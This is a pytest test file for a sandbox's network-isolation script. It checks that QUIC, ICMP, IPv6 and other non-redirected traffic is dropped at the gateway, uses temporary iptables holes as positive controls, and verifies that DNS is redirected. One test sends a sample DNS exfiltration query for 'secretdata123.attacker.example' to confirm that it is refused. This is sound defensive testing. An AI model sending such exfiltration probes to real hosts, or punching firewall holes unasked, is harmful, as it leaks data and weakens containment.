"""What sandbox-net.sh does not redirect is dropped on the gateway side: UDP (QUIC on 443 too),
TCP to other ports, IPv6 (even when root inside the sandbox turns it back on), and the gateway's
other listeners. The gateway namespace forwards packets (ip_forward=1, as on a Docker host) and
the internet namespace routes back to the sandboxes, so only the script's rules stand between a
sandbox packet and the recorders; positive controls show each recorder does hear what gets there."""

from __future__ import annotations

import contextlib
import os
import subprocess

import pytest

from tests.support.topology import ALLOWED, OTHER, PUBLIC_V6, dns_query, dns_query_packet, icmp_echo, ip, run

pytestmark = pytest.mark.netns

# A QUIC v1 Initial-looking datagram: long header, version 1, connection ids, padding to 1200.
QUIC_INITIAL = bytes([0xC3]) + b"\x00\x00\x00\x01" + bytes([8]) + os.urandom(8) + bytes([8]) + os.urandom(8)
QUIC_INITIAL += os.urandom(1200 - len(QUIC_INITIAL))


def iptables_of_script(topology) -> str:
    """The iptables binary sandbox-net.sh picked (the first that works in the gateway namespace)."""
    for candidate in ("iptables", "iptables-legacy"):
        if run(["ip", "netns", "exec", topology.gw, candidate, "-t", "nat", "-L", "-n"], check=False).returncode == 0:
            return candidate
    raise AssertionError("no working iptables in the gateway namespace")


@contextlib.contextmanager
def hole(topology, binary: str, spec: list[str], chain: str = "FORWARD"):
    """Temporarily insert an ACCEPT before the script's drops (positive controls only)."""
    run(["ip", "netns", "exec", topology.gw, binary, "-I", chain, "1", *spec, "-j", "ACCEPT"])
    try:
        yield
    finally:
        run(["ip", "netns", "exec", topology.gw, binary, "-D", chain, *spec, "-j", "ACCEPT"], check=False)


def test_udp_443_quic_is_dropped(topology, main):
    for _ in range(3):
        topology.udp_send(main.ns, ALLOWED, 443, QUIC_INITIAL)
    assert topology.touched() == []


def test_udp_to_other_ports_is_dropped(topology, main):
    topology.udp_send(main.ns, OTHER, 5300, dns_query_packet("allowed.test", "A"))
    assert dns_query(topology, main.ns, OTHER, "allowed.test", "A", port=5300, timeout=1) is None
    assert topology.touched() == []


def test_tcp_to_other_ports_is_dropped(topology, main):
    with pytest.raises(OSError):
        topology.connect(main.sandbox, OTHER, 8080, timeout=1.5).close()
    assert topology.touched() == []


def test_icmp_is_dropped(topology, main):
    assert not icmp_echo(topology, main.ns, OTHER), "a ping to the outside was answered"
    assert not icmp_echo(topology, main.ns, main.sandbox.gateway_address), "the gateway answered a ping"
    assert topology.touched() == []


def test_dns_to_an_outside_resolver_is_answered_by_the_gateway(topology, main):
    """udp/53 to any address is redirected to the gateway's DNS: the outside resolver hears nothing."""
    mark = main.audit_mark()
    reply = dns_query(topology, main.ns, OTHER, "allowed.test", "A")
    assert reply is not None and (reply.rcode, reply.addresses) == ("NOERROR", [ALLOWED])
    leak = dns_query(topology, main.ns, OTHER, "secretdata123.attacker.example", "TXT")
    assert leak is not None and leak.rcode in ("NXDOMAIN", "REFUSED") and not leak.answers
    assert topology.touched() == []
    assert [e["host"] for e in main.audit_since(mark, event="dns")] == ["allowed.test", "secretdata123.attacker.example"]


def test_the_gateways_other_listeners_are_closed_to_the_sandbox(topology, main, strict):
    """Only the sandbox's own two gateway ports are open to it (INPUT drops the rest)."""
    with pytest.raises(OSError):
        topology.connect(main.sandbox, main.sandbox.gateway_address, strict.sandbox.proxy_port, timeout=1).close()
    assert dns_query(topology, main.ns, main.sandbox.gateway_address, "allowed.test", "A",
                     port=strict.sandbox.dns_port, timeout=1) is None


def test_positive_control_the_recorders_hear_what_is_forwarded(topology, main):
    """With a hole punched before the script's FORWARD drops, the same packets do arrive: the
    silence in the tests above comes from the drops, not from a broken path."""
    binary = iptables_of_script(topology)
    host_if = main.sandbox.host_if
    with hole(topology, binary, ["-i", host_if, "-p", "udp"]), hole(topology, binary, ["-o", host_if]), \
            hole(topology, binary, ["-i", host_if, "-p", "tcp", "--dport", "8080"]):
        topology.udp_send(main.ns, OTHER, 5300, b"control")
        topology.udp_send(main.ns, ALLOWED, 443, QUIC_INITIAL)
        topology.connect(main.sandbox, OTHER, 8080, timeout=3).close()
        with hole(topology, binary, ["-i", host_if, "-p", "icmp"]):
            assert icmp_echo(topology, main.ns, OTHER, timeout=2), "the ICMP control path does not work"
        touched = topology.touched()
    assert touched == [f"{OTHER}:8080", "icmp", f"udp:{ALLOWED}:443", f"udp:{OTHER}:5300"]


def test_ipv6_egress_fails(topology, main):
    with pytest.raises(OSError):
        topology.connect(main.sandbox, PUBLIC_V6, 443, timeout=1.5).close()
    assert topology.touched() == []


@pytest.fixture
def sandbox_ipv6_on(topology, main):
    """Root inside the sandbox turns IPv6 back on, takes an address and routes via the gateway's
    link-local address; the gateway namespace gets a route back (so a leak would be visible)."""
    sb, gw, host_if = main.ns, topology.gw, main.sandbox.host_if
    link_local = None
    out = run(["ip", "-n", gw, "-6", "-o", "addr", "show", "dev", host_if, "scope", "link"], check=False).stdout
    for word in out.split():
        if word.startswith("fe80::"):
            link_local = word.split("/")[0]
    if link_local is None:
        pytest.skip("the gateway side of the veth has no IPv6 link-local address here")
    try:
        run(["ip", "netns", "exec", sb, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=0"])
        run(["ip", "netns", "exec", sb, "sysctl", "-qw", "net.ipv6.conf.eth0.disable_ipv6=0"])
        ip("-n", sb, "-6", "addr", "add", "fd10::2/64", "dev", "eth0", "nodad")
        ip("-n", sb, "-6", "route", "add", "default", "via", link_local, "dev", "eth0")
        ip("-n", gw, "-6", "route", "add", "fd10::/64", "dev", host_if)
        yield
    finally:
        ip("-n", gw, "-6", "route", "del", "fd10::/64", "dev", host_if, check=False)
        ip("-n", sb, "-6", "route", "del", "default", check=False)
        ip("-n", sb, "-6", "addr", "del", "fd10::2/64", "dev", "eth0", check=False)
        run(["ip", "netns", "exec", sb, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1"], check=False)
        run(["ip", "netns", "exec", sb, "sysctl", "-qw", "net.ipv6.conf.eth0.disable_ipv6=1"], check=False)


def test_ipv6_stays_blocked_when_root_in_the_sandbox_enables_it(topology, main, sandbox_ipv6_on):
    assert subprocess.run(["ip", "netns", "exec", topology.gw, "ip6tables", "-S", "FORWARD"],
                          capture_output=True).returncode == 0, "ip6tables does not work in the gateway namespace"

    def attempt() -> None:
        with pytest.raises(OSError):
            topology.connect(main.sandbox, PUBLIC_V6, 443, timeout=1.5).close()
        topology.udp_send(main.ns, PUBLIC_V6, 5300, b"v6 leak")
        assert topology.touched() == []

    # As built: the gateway's IPv6 INPUT drop even stops neighbour discovery of the gateway.
    attempt()
    host_if = main.sandbox.host_if
    with hole(topology, "ip6tables", ["-i", host_if, "-p", "icmpv6"], chain="INPUT"):
        # With neighbour discovery let through, the FORWARD drop alone still holds.
        attempt()
        # Positive control: with a hole before the FORWARD drops the same packets get through.
        with hole(topology, "ip6tables", ["-i", host_if]), hole(topology, "ip6tables", ["-o", host_if]):
            try:
                topology.connect(main.sandbox, PUBLIC_V6, 443, timeout=3).close()
            except OSError as exc:
                pytest.fail(f"the IPv6 control path does not work, so this test proves nothing: {exc}")
            topology.udp_send(main.ns, PUBLIC_V6, 5300, b"control")
            touched = topology.touched()
    assert touched == [f"{PUBLIC_V6}:443", f"udp:{PUBLIC_V6}:5300"]
